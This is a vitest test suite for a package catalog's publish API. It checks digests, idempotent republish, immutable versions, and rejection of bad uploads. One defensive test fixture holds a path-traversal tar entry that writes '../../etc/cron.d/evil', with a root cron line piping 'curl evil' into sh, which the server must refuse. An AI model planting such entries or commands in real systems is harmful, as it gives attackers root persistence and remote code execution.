/**
 * Publishing bundles: identity by digest, idempotent republish, a version that cannot change,
 * byte-identical download, hostile and oversized uploads refused with nothing written.
 * Runs on Node and in workerd.
 */
import { describe, expect, it } from "vitest";
import { packBundle } from "../../../universe/bundle/index.js";
import type { Harness } from "../harness.js";
import {
  chunkCount,
  GZIP,
  handMadeTarGz,
  type PackageSpec,
  timeServerFiles,
  upload,
  word,
} from "./catalog-fixtures.suite.js";
import type { MakeHarness } from "./index.js";

interface Published {
  name: string;
  version: string;
  releaseVersion: number;
  digest: string;
  repository: { name: string };
  created: boolean;
}

const bundleOf = (spec: PackageSpec) =>
  packBundle(timeServerFiles({ packagingVersion: "flotilla/1", ...spec }));
const publish = (h: Harness, archive: Uint8Array, token?: string) =>
  h.request("/v1/packages", upload(archive, GZIP, token));

export function catalogPublishSuite(make: MakeHarness): void {
  describe("catalog: publish", () => {
    it("publishes a bundle, repeats idempotently, and serves the identical bytes by digest", async () => {
      const h = await make();
      const name = word("pub");
      const { archive, digest } = await bundleOf({ name, version: "1.0.0" });
      const first = await h.json<Published>("/v1/packages", upload(archive, GZIP), 201);
      expect(first).toMatchObject({ name, version: "1.0.0", releaseVersion: 0, digest, created: true });
      expect(first.repository.name).toBe("local");

      const again = await h.json<Published>("/v1/packages", upload(archive, "application/octet-stream"), 200);
      expect(again).toMatchObject({ digest, releaseVersion: 0, created: false });

      const res = await h.request(`/v1/bundles/${digest}`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe(GZIP);
      expect(new Uint8Array(await res.arrayBuffer())).toEqual(archive);

      const versions = await h.json<{ versions: { version: string; digest: string }[] }>(
        `/v1/packages/${name}/versions`,
      );
      expect(versions.versions).toEqual([expect.objectContaining({ version: "1.0.0", digest })]);
      const described = await h.json<{ format: string; digest: string }>(`/v1/packages/${name}`);
      expect(described).toMatchObject({ format: "flotilla", digest });

      const next = await bundleOf({ name, version: "1.1.0" });
      const second = await h.json<Published>("/v1/packages", upload(next.archive, GZIP), 201);
      expect(second.releaseVersion).toBe(1);
      const repos = await h.json<{ repositories: { name: string; kind: string }[] }>("/v1/repositories");
      expect(repos.repositories.filter((r) => r.name === "local")).toEqual([
        expect.objectContaining({ kind: "bundles" }),
      ]);
    });

    it("refuses another bundle under a published version with 409 naming both digests, writing nothing", async () => {
      const h = await make();
      const name = word("pin");
      const original = await bundleOf({ name, version: "2.0.0" });
      await h.json("/v1/packages", upload(original.archive, GZIP), 201);
      const changed = await bundleOf({ name, version: "2.0.0", description: "sneakily changed" });
      expect(changed.digest).not.toBe(original.digest);

      const res = await publish(h, changed.archive);
      expect(res.status).toBe(409);
      const problem = (await res.json()) as {
        reason: string;
        detail: string;
        details: Record<string, string>;
      };
      expect(problem.reason).toBe("VERSION_EXISTS");
      expect(problem.detail).toContain(original.digest);
      expect(problem.detail).toContain(changed.digest);
      expect(problem.details).toMatchObject({ publishedDigest: original.digest, digest: changed.digest });

      expect((await h.request(`/v1/bundles/${changed.digest}`)).status).toBe(404);
      expect(await chunkCount(h, changed.digest)).toBe(0);
      expect(await chunkCount(h, original.digest)).toBe(1);
      const described = await h.json<{ digest: string; description?: string }>(`/v1/packages/${name}`);
      expect(described.digest).toBe(original.digest);
      const versions = await h.json<{ versions: unknown[] }>(`/v1/packages/${name}/versions`);
      expect(versions.versions).toHaveLength(1);
    });

    it("refuses corrupt and hostile archives with 400 and writes nothing", async () => {
      const h = await make();
      const name = word("evil");
      const files = timeServerFiles({ name, packagingVersion: "flotilla/1" });

      const notGzip = await publish(h, new TextEncoder().encode("definitely not a tgz"));
      expect(notGzip.status).toBe(400);
      expect(await notGzip.json()).toMatchObject({ reason: "BUNDLE_INVALID" });

      const { archive } = await packBundle(files);
      const truncated = await publish(h, archive.subarray(0, Math.floor(archive.byteLength / 2)));
      expect(truncated.status).toBe(400);

      const climbing = await handMadeTarGz([
        { name: "package.json", body: files["package.json"] ?? "" },
        { name: "../../etc/cron.d/evil", body: "* * * * * root sh -c 'curl evil | sh'" },
      ]);
      const hostile = await publish(h, climbing);
      expect(hostile.status).toBe(400);
      expect(await hostile.json()).toMatchObject({ reason: "BUNDLE_UNSAFE" });

      const badPackage = await packBundle({ ...files, "package.json": JSON.stringify({ name: "Bad Name" }) });
      const invalid = await publish(h, badPackage.archive);
      expect(invalid.status).toBe(400);
      expect(await invalid.json()).toMatchObject({ reason: "INVALID_PACKAGE" });

      expect((await h.request(`/v1/packages/${name}/versions`)).status).toBe(404);
      expect((await h.request(`/v1/bundles/${badPackage.digest}`)).status).toBe(404);
      expect(await chunkCount(h, badPackage.digest)).toBe(0);
    });

    it("deletes the bundles repository with its stored bundles, and the next publish brings it back", async () => {
      const h = await make();
      const { archive, digest } = await bundleOf({ name: word("drop"), version: "1.0.0" });
      await h.json("/v1/packages", upload(archive, GZIP), 201);
      expect(await chunkCount(h, digest)).toBe(1);
      expect((await h.request("/v1/repositories/local", { method: "DELETE" })).status).toBe(204);
      expect((await h.request(`/v1/bundles/${digest}`)).status).toBe(404);
      expect(await chunkCount(h, digest)).toBe(0);
      expect((await h.request("/v1/repositories/local")).status).toBe(404);
      const again = await h.json<Published>("/v1/packages", upload(archive, GZIP), 201);
      expect(again).toMatchObject({
        digest,
        releaseVersion: 0,
        created: true,
        repository: { name: "local" },
      });
      const res = await h.request(`/v1/bundles/${digest}`);
      expect(new Uint8Array(await res.arrayBuffer())).toEqual(archive);
    });

    it("refuses a body of the wrong type with 415 and a body over the limit with 413", async () => {
      const small = await make({ config: { maxBodyBytes: 4096 } });
      const name = word("big");
      const files = timeServerFiles({ name, packagingVersion: "flotilla/1" });
      const { archive } = await packBundle({ ...files, "README.md": randomText(64 * 1024) });
      expect(archive.byteLength).toBeGreaterThan(4096);
      const res = await publish(small, archive);
      expect(res.status).toBe(413);
      expect(await res.json()).toMatchObject({ code: "PAYLOAD_TOO_LARGE" });
      const index = await small.request(`/v1/repositories?name=${name}`, upload(archive, GZIP));
      expect(index.status).toBe(413);

      const h = await make();
      expect((await h.request(`/v1/packages/${name}/versions`)).status).toBe(404);
      const json = await h.request("/v1/packages", upload(JSON.stringify(files), "application/json"));
      expect(json.status).toBe(415);
      expect((await h.request("/v1/bundles/sha256:nothex")).status).toBe(400);
    });
  });
}

/** Text that gzip cannot shrink much, so the archive really is large. */
function randomText(length: number): string {
  const bytes = crypto.getRandomValues(new Uint8Array(length));
  return Array.from(bytes, (b) => String.fromCharCode(97 + (b % 26))).join("");
}
